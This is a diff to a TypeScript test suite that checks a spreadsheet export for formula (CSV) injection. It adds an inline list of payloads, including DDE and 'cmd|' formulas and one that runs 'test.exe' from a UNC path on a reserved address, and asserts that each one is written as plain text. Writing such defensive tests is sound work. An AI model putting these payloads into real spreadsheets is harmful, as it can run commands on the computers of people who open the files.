@@ -162,50 +162,60 @@ const textOf = (parts: Record<string, Uint8Array>, name: string) => strFromU8(pa
 
 const PAYLOADS = resolve(import.meta.dirname, '../../../../../shared/data/torture/payloadbox_csv-injection.txt');
 
-describe('hostile text', () => {
-  it.skipIf(!existsSync(PAYLOADS))(
-    'stays text in every cell (payloads of payloadbox; skipped where they are missing)',
-    async () => {
-      const payloads = readFileSync(PAYLOADS, 'utf8').split('\n').filter(Boolean);
-      expect(payloads).toHaveLength(6);
-      const source = exampleSource();
-      for (const [index, payload] of [...payloads, '+1', '-1+1', '\t=1', '_x0041_', '<b>&"'].entries()) {
-        const process = source.processes[index + 1];
-        if (process) Object.assign(process, { name: payload, description: payload });
-        for (const opportunity of process?.opportunities ?? []) {
-          Object.assign(opportunity, { title: payload, description: payload, rationale: payload, source: payload });
-        }
-      }
-      const vendors = payloads.map((name, index) => ({
-        ...VENDOR,
-        id: `v${index}`,
-        name,
-        overview: name,
-        capabilities: [name],
-      }));
-      const sector = { name: '=1+1', description: '@SUM(1)', referenceModel: '-1' };
-      const workbook = await read(
-        await exportSheets(buildBlueprint({ ...source, vendors, sector, title: '=HYPERLINK("x")' })),
-      );
+const OURS = [
+  'DDE ("cmd";"/C date";"!B2")B2',
+  "@SUM(2+3)*cmd|' /C date'!B2",
+  "=2+3+cmd|' /C date'!B2",
+  "=cmd|' /C date'!'B2'",
+  '=HYPERLINK("http://test.invalid","Open")',
+  "=cmd|'/c test.exe \\\\192.0.2.1\\x,0'!_xlbgnm.B2",
+];
 
-      const ours = formulasOf(workbook, (formula) => /cmd|HYPERLINK|@|DDE|1\+1/.test(formula));
-      expect([...ours]).toEqual([]);
-      const names = [...payloads, '+1', '-1+1', '\t=1', '_x0041_', '<b>&"'];
-      names.forEach((name, index) => {
-        const cell = sheetOf(workbook, SHEET.inputs).getCell(`${INPUT.name}${FIRST_ROW + index}`);
-        expect(cell.type).toBe(ExcelJS.ValueType.String);
-        expect(cell.value).toBe(name);
-      });
-      const named: ExcelJS.Cell[] = [];
-      sheetOf(workbook, SHEET.vendors).eachRow((row) => named.push(row.getCell(SCORING.name)));
-      expect(
-        named
-          .filter(({ numFmt }) => numFmt === '@')
-          .map(({ text }) => text)
-          .sort(),
-      ).toEqual(payloads.filter((name) => /^[=+\-@]/.test(name)).sort());
-    },
-  );
+describe('hostile text', () => {
+  it.each([
+    { from: 'ours', payloads: OURS },
+    ...(existsSync(PAYLOADS)
+      ? [{ from: 'payloadbox', payloads: readFileSync(PAYLOADS, 'utf8').split('\n').filter(Boolean) }]
+      : []),
+  ])('stays text in every cell: payloads of $from', async ({ payloads }) => {
+    expect(payloads).toHaveLength(6);
+    const source = exampleSource();
+    for (const [index, payload] of [...payloads, '+1', '-1+1', '\t=1', '_x0041_', '<b>&"'].entries()) {
+      const process = source.processes[index + 1];
+      if (process) Object.assign(process, { name: payload, description: payload });
+      for (const opportunity of process?.opportunities ?? []) {
+        Object.assign(opportunity, { title: payload, description: payload, rationale: payload, source: payload });
+      }
+    }
+    const vendors = payloads.map((name, index) => ({
+      ...VENDOR,
+      id: `v${index}`,
+      name,
+      overview: name,
+      capabilities: [name],
+    }));
+    const sector = { name: '=1+1', description: '@SUM(1)', referenceModel: '-1' };
+    const workbook = await read(
+      await exportSheets(buildBlueprint({ ...source, vendors, sector, title: '=HYPERLINK("x")' })),
+    );
+
+    const ours = formulasOf(workbook, (formula) => /cmd|HYPERLINK|@|DDE|1\+1/.test(formula));
+    expect([...ours]).toEqual([]);
+    const names = [...payloads, '+1', '-1+1', '\t=1', '_x0041_', '<b>&"'];
+    names.forEach((name, index) => {
+      const cell = sheetOf(workbook, SHEET.inputs).getCell(`${INPUT.name}${FIRST_ROW + index}`);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe(name);
+    });
+    const named: ExcelJS.Cell[] = [];
+    sheetOf(workbook, SHEET.vendors).eachRow((row) => named.push(row.getCell(SCORING.name)));
+    expect(
+      named
+        .filter(({ numFmt }) => numFmt === '@')
+        .map(({ text }) => text)
+        .sort(),
+    ).toEqual(payloads.filter((name) => /^[=+\-@]/.test(name)).sort());
+  });
 });
 
 const VENDOR = {
